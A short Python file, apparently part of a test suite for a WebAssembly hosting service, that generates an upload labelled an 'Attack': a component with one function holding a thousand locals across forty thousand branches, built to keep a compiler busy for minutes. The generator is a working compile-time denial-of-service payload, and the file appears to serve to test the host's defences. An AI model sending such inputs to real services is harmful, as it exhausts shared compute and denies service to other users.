"""Attack: one function that keeps a compiler busy for minutes: a thousand variables that live across forty thousand
branches."""

from wasm_binary import component, core_module, number

LOCALS, BRANCHES = 1000, 40_000


def uploads(_):
    locals_of_i32 = b"\x01" + number(LOCALS) + b"\x7f"
    step = bytearray()
    for index in range(BRANCHES):
        here, there = number(index % LOCALS), number(index * 7919 % LOCALS)
        # if local.get here { local.set there (here + there) }
        step += b"\x20" + here + b"\x04\x40\x20" + here + b"\x20" + there + b"\x6a\x21" + there + b"\x0b"
    loop = b"\x03\x40" + bytes(step) + b"\x20\0\x0d\0\x0b"
    yield component(module=core_module(loop + b"\x0b", local_types=locals_of_i32))
